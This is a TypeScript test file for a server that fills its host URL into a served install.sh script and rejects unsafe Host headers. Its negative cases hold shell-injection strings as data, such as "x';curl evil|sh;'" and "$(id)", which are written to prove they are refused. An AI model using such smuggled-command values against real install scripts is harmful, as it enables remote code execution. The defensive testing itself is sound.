import { describe, expect, test } from "bun:test";
import { resolve } from "node:path";
import { publicServerUrl, serveInstallScript } from "./install-scripts.ts";

const repositoryRoot = resolve(import.meta.dir, "../../../..");

function request(headers: Record<string, string>, url = "http://127.0.0.1:8080/install.sh") {
  return new Request(url, { headers });
}

describe("the server URL put into /install.sh", () => {
  test("is the request's Host with the scheme it came over", () => {
    expect(publicServerUrl(request({ host: "redflag.lan:8080" }), false)).toBe("http://redflag.lan:8080");
    expect(publicServerUrl(request({ host: "192.168.1.10:8080" }), false)).toBe("http://192.168.1.10:8080");
    expect(publicServerUrl(request({ host: "[fd00::1]:8080" }), false)).toBe("http://[fd00::1]:8080");
  });

  test("takes X-Forwarded-Host and -Proto only from a trusted proxy", () => {
    const proxied = {
      host: "127.0.0.1:8080",
      "x-forwarded-host": "updates.example.org",
      "x-forwarded-proto": "https",
    };
    expect(publicServerUrl(request(proxied), false)).toBe("http://127.0.0.1:8080");
    expect(publicServerUrl(request(proxied), true)).toBe("https://updates.example.org");
  });

  test("refuses a Host that could carry anything but a host name and port into the script", () => {
    for (const host of ["x';curl evil|sh;'", "a b", "host:99999", "-x", "host/path", "$(id)", "[::1"]) {
      expect(publicServerUrl(request({ host }), false)).toBeNull();
    }
    expect(
      publicServerUrl(
        request({ host: "ok:8080", "x-forwarded-host": "x'$(id)", "x-forwarded-proto": "https" }),
        true,
      ),
    ).toBeNull();
    expect(publicServerUrl(request({ host: "ok", "x-forwarded-proto": "gopher" }), true)).toBeNull();
  });

  test("answers 400 for such a Host, and the script as text with the URL filled in otherwise", async () => {
    const refused = await serveInstallScript(request({ host: "a'b" }), "install.sh", {
      repositoryRoot,
      trustProxy: false,
    });
    expect(refused.status).toBe(400);
    const served = await serveInstallScript(request({ host: "redflag.lan:8080" }), "install.sh", {
      repositoryRoot,
      trustProxy: false,
    });
    expect(served.status).toBe(200);
    expect(served.headers.get("content-type")).toBe("text/plain; charset=utf-8");
    const text = await served.text();
    expect(text).toStartWith("#!/bin/sh\n");
    expect(text).toContain("server='http://redflag.lan:8080'");
  });
});
